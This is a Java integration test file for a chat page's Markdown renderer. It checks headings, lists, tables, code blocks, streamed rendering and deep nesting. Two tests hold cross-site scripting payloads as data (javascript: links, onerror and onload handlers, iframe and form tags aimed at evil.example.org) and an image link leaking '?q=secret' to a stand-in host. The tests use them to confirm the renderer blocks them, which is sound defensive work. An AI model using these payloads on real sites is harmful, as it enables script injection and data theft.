package dev.penstock.gateway.page;

import static org.assertj.core.api.Assertions.assertThat;

import dev.penstock.gateway.page.browser.Browser;
import dev.penstock.gateway.page.browser.Tab;
import dev.penstock.gateway.page.fake.FakeGateway;
import dev.penstock.gateway.page.fake.Script;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** What a model writes, as nodes. */
class MarkdownIT {
  @RegisterExtension static final FakeGateway gateway = new FakeGateway();
  @RegisterExtension static final Browser browser = new Browser();

  static final String ALL_KINDS =
      """
      # Red pandas

      They live in **Himalayan** forests and eat *mostly* bamboo, not ~~meat~~. See [the article](https://example.org/red-pandas)
      or `bamboo()`; more [there][late].

      - Leaves of bamboo
      - Fruit, eggs
        - and the odd bird

          with a paragraph
      - [x] cute
      - [ ] lazy

      3. Third
      4. Fourth

      | Food | Share | Season |
      |:-----|------:|:------:|
      | Bamboo | 85 % | all year |
      | Fruit | 10 % | summer |

      > A quiet animal,
      > mostly.

      Setext
      ------

      ```python
      def eat(bamboo: int) -> int:
          return bamboo - 1  # <b>not markup</b>
      ```

      text
      #hashtag and
      ***

      [late]: https://example.org/late "A late one"

      The end.
      """;

  private String rendered(Tab tab, String text) {
    return tab.text(
        """
        import('/assets/modules/page.js').then((page) => page.modules['answer-text.js']).then(({AnswerText}) => {
          const answer = new AnswerText();
          answer.set(%s, true);
          return answer.element.innerHTML;
        })"""
            .formatted(Tab.quoted(text)));
  }

  /** CP-32. */
  @Test
  void rendersGitHubMarkdown() {
    var page = Conversation.open(browser.tab(), gateway.address());
    gateway.next(Script.answer(ALL_KINDS));

    page.send("Tell me everything").untilState("completed");

    var tab = page.tab();
    var inAnswer = "document.querySelector('.text')";
    assertThat(tab.text(inAnswer + ".querySelector('h3').innerText")).isEqualTo("Red pandas");
    assertThat(tab.text(inAnswer + ".querySelector('h4').innerText")).isEqualTo("Setext");
    assertThat(tab.text(inAnswer + ".querySelector('strong').innerText")).isEqualTo("Himalayan");
    assertThat(tab.text(inAnswer + ".querySelector('ul ul p:last-child').innerText"))
        .isEqualTo("with a paragraph");
    assertThat(tab.text(inAnswer + ".querySelector('ul').innerText")).contains("☑ cute", "☐ lazy");
    assertThat(tab.text(inAnswer + ".querySelector('ol').start")).isEqualTo("3");
    assertThat(tab.text("getComputedStyle(document.querySelector('td:nth-child(2)')).textAlign"))
        .isEqualTo("right");
    assertThat(tab.text(inAnswer + ".querySelector('blockquote').innerText"))
        .startsWith("A quiet animal,");
    assertThat(tab.text(inAnswer + ".querySelector('.code-head span').innerText"))
        .isEqualTo("python");
    assertThat(tab.text(inAnswer + ".querySelector('pre').textContent"))
        .isEqualTo("def eat(bamboo: int) -> int:\n    return bamboo - 1  # <b>not markup</b>");
    assertThat(tab.text("[...document.querySelectorAll('.text a')].map((a) => a.href).join(' ')"))
        .isEqualTo("https://example.org/red-pandas https://example.org/late");
    assertThat(tab.text("document.querySelector('.text a').rel"))
        .isEqualTo("noopener noreferrer nofollow");
  }

  /** CP-36, CP-54: no request, no markup. */
  @Test
  void turnsImagesIntoLinksAndShowsRawHtmlAsText() {
    var page = Conversation.open(browser.tab(), gateway.address());
    gateway.next(
        Script.answer(
            """
            ![a red panda](https://images.example.org/panda.png "title") ![](http://leak.example.org/?q=secret)

            <img src="https://images.example.org/raw.png" onerror="document.title='owned'"> and <b>bold</b>

            <script>document.title = 'owned'</script>

            <style>body { display: none }</style>
            """));

    page.send("Show me").untilState("completed");

    var tab = page.tab();
    assertThat(
            tab.evaluate(
                "document.querySelectorAll('.text img, .text b, .text script, .text style').length"))
        .isEqualTo(0);
    assertThat(tab.text("document.querySelector('.text').innerText"))
        .contains("a red panda (images.example.org)")
        .contains("image (leak.example.org)")
        .contains("<img src=\"https://images.example.org/raw.png\"")
        .contains("<b>bold</b>")
        .contains("<script>document.title = 'owned'</script>")
        .contains("<style>body { display: none }</style>");
    assertThat(tab.requests())
        .allMatch(address -> address.startsWith(gateway.address()) || address.startsWith("data:"));
    assertThat(tab.text("document.title")).doesNotContain("owned");
  }

  /** CP-54, CP-55: only these schemes, only these attributes. */
  @Test
  void letsNoActiveContentThrough() {
    var page = Conversation.open(browser.tab(), gateway.address());
    var attacks =
        List.of(
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](vbscript:x)",
            "[x](/relative)",
            "![x](javascript:alert(1))",
            "<javascript:alert(1)>",
            "<svg onload=alert(1)>",
            "<math><mi xlink:href='javascript:1'>",
            "<iframe src=//evil.example.org></iframe>",
            "<form action=//evil.example.org><input name=location></form>",
            "[x](https://a.example.org \"\\\" onmouseover=\\\"alert(1)\")",
            "[x]: javascript:alert(1)\n[x]",
            "```\"><img src=x onerror=alert(1)>\ncode\n```",
            "| <img src=x onerror=alert(1)> |\n|-|\n| <a id=location name=cookie> |");
    for (var attack : attacks) {
      var html = rendered(page.tab(), attack);
      var bad =
          page.tab()
              .text(
                  """
                  (() => {
                    const root = new DOMParser().parseFromString(DOMPurify.sanitize(%s, {RETURN_TRUSTED_TYPE: true, ADD_ATTR: ['target']}), 'text/html').body;
                    const names = [...root.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => `${e.localName}.${a.name}=${a.value}`));
                    return names.filter((name) => /\\.(on|id=|name=|style=|src=)/.test(name) || /href=(?!https?:|mailto:)/.test(name)).join();
                  })()"""
                      .formatted(Tab.quoted(html)));
      assertThat(bad).as(attack).isEmpty();
      assertThat(html)
          .as(attack)
          .doesNotContain("<img", "<svg", "<math", "<iframe", "<form", "<input", "<script");
    }
  }

  /** CP-50, CP-51: cut anywhere, a stream ends as what a whole drawing gives. */
  @Test
  void drawsTheSameWhereverTheTextIsCut() {
    var page = Conversation.open(browser.tab(), gateway.address());

    var differing =
        page.tab()
            .text(
                """
                import('/assets/modules/page.js').then((page) => page.modules['answer-text.js']).then(async ({AnswerText}) => {
                  const text = %s;
                  let seed = 42;
                  const random = () => (seed = (seed * 1103515245 + 12345) %% 2147483648) / 2147483648;
                  const now = (answer, part, final) => {
                    const request = window.requestAnimationFrame;
                    window.requestAnimationFrame = (draw) => (draw(Infinity), 0);
                    answer.set(part, final);
                    window.requestAnimationFrame = request;
                  };
                  const whole = new AnswerText();
                  whole.set(text, true);
                  const expected = whole.element.innerHTML;
                  for (let round = 0; round < 40; round++) {
                    const answer = new AnswerText();
                    for (let at = 0; at < text.length; at += 1 + Math.floor(random() * (round %% 2 ? 4 : 40))) {
                      now(answer, text.slice(0, at), false);
                    }
                    now(answer, text, true);
                    if (answer.element.innerHTML !== expected) return answer.element.innerHTML;
                  }
                  return '';
                })"""
                    .formatted(Tab.quoted(ALL_KINDS)));

    assertThat(differing).isEmpty();
  }

  /** CP-13, CP-50: what is finished is not drawn again. */
  @Test
  void keepsTheNodesOfFinishedBlocks() {
    var page = Conversation.open(browser.tab(), gateway.address());
    gateway.next(
        Script.answer("First block.\n\nSecond block.\n\n```js\nlet x;\nlet y;\n```\n\nEnd.")
            .heldAfter(8, 11, 14));
    page.send("Blocks").untilAnswer("Second block.");
    page.tab().evaluate("window.first = document.querySelector('.text > p'); 0");
    gateway.release();
    page.untilAnswer("let");
    page.tab().evaluate("window.code = document.querySelector('.code'); 0");
    gateway.release();
    page.untilAnswer("En");
    gateway.release();
    page.untilState("completed");

    assertThat(page.tab().evaluate("window.first === document.querySelector('.text > p')"))
        .isEqualTo(true);
    assertThat(page.tab().evaluate("window.code === document.querySelector('.code')"))
        .isEqualTo(true);
  }

  /** CP-56, as far as an answer of one block goes: the page survives. */
  @Test
  void survivesNestingDeeperThanTheParserCanGo() {
    var page = Conversation.open(browser.tab(), gateway.address());

    var html = rendered(page.tab(), "> ".repeat(10_000) + "deep");

    assertThat(html).contains("deep");
  }
}
